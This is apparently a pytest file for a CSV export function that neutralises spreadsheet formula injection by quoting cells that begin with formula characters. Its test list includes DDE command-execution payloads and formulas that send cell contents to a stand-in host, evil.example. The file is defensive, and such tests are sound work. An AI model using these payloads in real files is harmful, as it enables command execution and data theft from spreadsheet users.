"""CSV that no spreadsheet runs."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from core.exports import csv_lines, defuse

# What spreadsheets are known to run, as people type it into names and notes (CWE-1236).
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"!A0")',
    "=-1",
    "==1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+49 30 123456",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "- see the other chart",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t",
    " =1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " ＝1+1",
]
HARMLESS = ["", "Ana Gómez", "O'Neill", "1 + 1 = 2", "a=b", "ana@home.example", "12:30", "(555) 0100", "'quoted'", "—"]


def cells(rows):
    text = b"".join(csv_lines(["Name"], rows)).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))[1:]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_be_a_formula_becomes_text(text):
    [[cell]] = cells([[text]])

    assert cell == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text):
    [[cell]] = cells([[text]])

    assert cell == text
    assert defuse(text) == text


def test_numbers_and_dates_are_no_text():
    assert cells([[-5, Decimal("-12.50"), date(2026, 3, 27), None]]) == [["-5", "-12.50", "2026-03-27", ""]]


def test_a_separator_of_another_country_splits_no_cell_in_two():
    written = b"".join(csv_lines(["Notes"], [["ill;=1+1"], ['said "=1+1"'], ["first\r\n=1+1"]])).decode("utf-8-sig")

    assert written.splitlines()[1] == '"ill;=1+1"'
    assert cells([['said "=1+1"'], ["first\r\n=1+1"]]) == [['said "=1+1"'], ["first\r\n=1+1"]]


def test_the_header_is_defused_as_well_and_the_file_says_that_it_is_utf_8():
    lines = list(csv_lines(["=Name"], []))

    assert lines == ['\ufeff"\'=Name"\r\n'.encode()]


def test_rows_are_written_as_they_are_asked_for():
    taken = []

    def rows():
        for number in range(1000):
            taken.append(number)
            yield [number]

    lines = csv_lines(["Number"], rows())
    next(lines)
    next(lines)

    assert taken == [0]
